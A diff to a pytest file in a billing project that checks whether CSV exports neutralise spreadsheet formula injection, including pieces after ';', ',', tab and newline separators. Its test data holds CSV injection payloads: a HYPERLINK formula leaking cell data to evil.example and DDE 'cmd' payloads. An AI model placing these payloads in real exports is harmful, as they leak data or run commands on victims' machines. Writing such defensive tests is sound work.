@@ -1,6 +1,8 @@
 """Every CSV the project writes neutralises text a spreadsheet would run as a
 formula (OWASP: a cell beginning with =, +, -, @, tab or carriage return gets a '
-in front) and writes the amounts it formats itself unchanged."""
+in front; so does each piece of it after a ',', ';', tab or line break, where a
+spreadsheet splitting at ';' or tabs starts a cell) and writes the amounts it
+formats itself unchanged."""
 
 import csv
 import io
@@ -9,35 +11,65 @@ from decimal import Decimal as D
 
 import pytest
 
-from billing.core.spreadsheet_csv import Figure, SpreadsheetCsv
+from billing.core.spreadsheet_csv import Figure, SpreadsheetCsv, text_cell
 from billing.journal.models import JournalEntry
 from billing.journal.trial_balance import entity_trial_balance, trial_balance_lines
 from billing.margins.report import Margin, margins_csv
 from tests.factories import CustomerFactory, api_client
 from wallets.revenue import RevenueMonth, credit_revenue_csv
 
-# One a prefix OWASP names; the formula each would run.
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/leak?"&A1,"open")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-# Customer ids take no spaces, '/', '?', '#', '%' or '\\': formulas that fit.
-CUSTOMER_IDS = [
-    '=HYPERLINK("evil.example"&A1,"open")',
-    "+1+1",
-    "-2+3",
-    "@SUM(1+1)",
-    "tab",
-    "cr",
-]
+# One a prefix OWASP names, then formulas a spreadsheet splitting at ';' (French
+# and German Excel and LibreOffice), ',' (a reader that ignores quotes), tabs or
+# line breaks would find after the split: each text and how it is written.
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/leak?"&A1,"open")': (
+        '\'=HYPERLINK("http://evil.example/leak?"&A1,"open")'
+    ),
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    # The tab starts a cell for a split at tabs: the = after it is a formula's start.
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    'a;=HYPERLINK("http://evil.example/leak?"&A1;"open")': (
+        'a;\'=HYPERLINK("http://evil.example/leak?"&A1;"open")'
+    ),
+    "ref;-2+3+cmd|' /C calc'!A0": "ref;'-2+3+cmd|' /C calc'!A0",
+    "ref, @SUM(1+1)": "ref,' @SUM(1+1)",
+    'ref;"=1+1': "ref;'\"=1+1",
+    "ref\t+1+1": "ref\t'+1+1",
+    "ref\n=1+1": "ref\n'=1+1",
+    "ref;;=1+1": "ref;;'=1+1",
+}
+# Customer ids take no spaces, '/', '?', '#', '%' or '\\': formulas that fit, the
+# text each is written as, one for each HOSTILE text.
+CUSTOMER_IDS = {
+    '=HYPERLINK("evil.example"&A1,"open")': '\'=HYPERLINK("evil.example"&A1,"open")',
+    "+1+1": "'+1+1",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    "tab": "tab",
+    "cr": "cr",
+    "a;=1+1": "a;'=1+1",
+    "b;-2+3": "b;'-2+3",
+    "c,@SUM(1+1)": "c,'@SUM(1+1)",
+    "d;+1+1": "d;'+1+1",
+    "e": "e",
+    "f": "f",
+    "g;;=1": "g;;'=1",
+}
 
 
 def cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def formulas(text: str, separator: str) -> list[str]:
+    """The pieces of `text`, split at `separator` alone (quotes not honoured), that a
+    spreadsheet runs: beginning, past spaces and double quotes, with a formula's
+    character."""
+    pieces = text.split(separator)
+    return [piece for piece in pieces if piece.lstrip(' "')[:1] in set("=+-@\t\r")]
 
 
 def test_the_writer_neutralises_each_prefix_and_writes_figures_as_they_are():
@@ -45,17 +77,23 @@ def test_the_writer_neutralises_each_prefix_and_writes_figures_as_they_are():
 
     line = writer.row([*HOSTILE, "acme", "", None, Figure("-8.47"), D("-0.50"), -3])
 
-    assert cells(line) == [
-        [
-            *("'" + text for text in HOSTILE),
-            "acme",
-            "",
-            "",
-            "-8.47",
-            "-0.50",
-            "-3",
-        ]
-    ]
+    assert cells(line) == [[*HOSTILE.values(), "acme", "", "", "-8.47", "-0.50", "-3"]]
+
+
+def test_text_with_separators_but_no_formula_is_written_as_it_is():
+    plain = ["Acme; Inc, Paris", "a\tb", "line\nbreak", "it's 3-4", "x;y=1", "ref, 12"]
+
+    assert [text_cell(text) for text in plain] == plain
+    assert cells(SpreadsheetCsv().row(plain)) == [plain]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
+def test_no_split_of_a_written_line_at_a_separator_starts_a_formula(separator):
+    """The line as a spreadsheet splitting at that character alone (quotes not
+    honoured) sees it: no piece starts with a formula's character."""
+    line = SpreadsheetCsv().row([*HOSTILE, *CUSTOMER_IDS])
+
+    assert formulas(line.rstrip("\n"), separator) == []
 
 
 def test_the_writer_refuses_a_cell_it_cannot_tell_text_from_number():
@@ -63,13 +101,13 @@ def test_the_writer_refuses_a_cell_it_cannot_tell_text_from_number():
         SpreadsheetCsv().row([1.5])
 
 
-def journal_rows(count: int = 6) -> None:
+def journal_rows(count: int = len(HOSTILE)) -> None:
     """A document per hostile text: Dr receivable 8.47 / Cr revenue 8.47 of a
     customer whose id is a formula, its number, memo and account name the text."""
     written = datetime(2026, 11, 5, tzinfo=UTC)
     for index in range(count):
-        external_id = HOSTILE[index]
-        customer = CustomerFactory(external_id=CUSTOMER_IDS[index])
+        external_id = list(HOSTILE)[index]
+        customer = CustomerFactory(external_id=list(CUSTOMER_IDS)[index])
         for line, (account, debit, credit) in enumerate(
             [("1100", D("8.47"), D(0)), ("4000", D(0), D("8.47"))]
         ):
@@ -109,14 +147,13 @@ def test_the_journal_csv_neutralises_ids_references_and_memos_and_keeps_amounts(
     found = cells(body(api_client().get("/api/v1/journal.csv?from=2026-11-01&to=2026-12-01")))
 
     header, rows = found[0], found[1:]
-    assert len(rows) == 12
+    assert len(rows) == 2 * len(HOSTILE)
+    written = list(HOSTILE.values())
     for row in rows:
         entry = dict(zip(header, row, strict=True))
-        index = HOSTILE.index(entry["memo"][1:])
-        assert entry["memo"][0] == "'"
+        index = written.index(entry["memo"])
         assert entry["document"] == entry["account_name"] == entry["memo"]
-        customer = CUSTOMER_IDS[index]
-        assert entry["customer"] == (customer if index > 3 else "'" + customer)
+        assert entry["customer"] == list(CUSTOMER_IDS.values())[index]
         assert (entry["debit"], entry["credit"]) in {("8.47", "0.00"), ("0.00", "8.47")}
 
 
@@ -129,10 +166,12 @@ def test_the_xero_csv_neutralises_its_text_and_keeps_signed_amounts():
     )
 
     rows = found[1:]
-    assert len(rows) == 12
+    assert len(rows) == 2 * len(HOSTILE)
     for narration, _day, description, account, _tax, amount, *_ in rows:
         assert narration.startswith("payment ")
-        assert description[0] == "'" and description[1:].startswith(tuple(HOSTILE))
+        # "account name (customer): memo", each a hostile text.
+        assert description.startswith(tuple(HOSTILE.values()))
+        assert [formulas(description, separator) for separator in ",;\t\n"] == [[]] * 4
         assert (account, amount) in {("1100", "8.47"), ("4000", "-8.47")}
 
 
@@ -147,9 +186,10 @@ def test_the_trial_balance_csv_neutralises_account_names_and_keeps_amounts():
     )
     found = cells("".join(trial_balance_lines(balance)))
 
+    name = HOSTILE['=HYPERLINK("http://evil.example/leak?"&A1,"open")']
     assert found[1:] == [
-        [code, "'-4000", "'" + HOSTILE[0], "USD", "0.00", "0.00", "8.47", "-8.47"],
-        [code, "1100", "'" + HOSTILE[0], "USD", "0.00", "8.47", "0.00", "8.47"],
+        [code, "'-4000", name, "USD", "0.00", "0.00", "8.47", "-8.47"],
+        [code, "1100", name, "USD", "0.00", "8.47", "0.00", "8.47"],
     ]
 
 
@@ -162,7 +202,8 @@ def test_the_margins_csv_neutralises_keys_and_keeps_negative_margins():
     found = cells(margins_csv(rows, group_by="model", currency="USD"))
 
     assert found[1:] == [
-        ["'" + text, "1.00", "9.47", "-8.47", "-847.00", "5", "USD", "", ""] for text in HOSTILE
+        [written, "1.00", "9.47", "-8.47", "-847.00", "5", "USD", "", ""]
+        for written in HOSTILE.values()
     ]
 
 
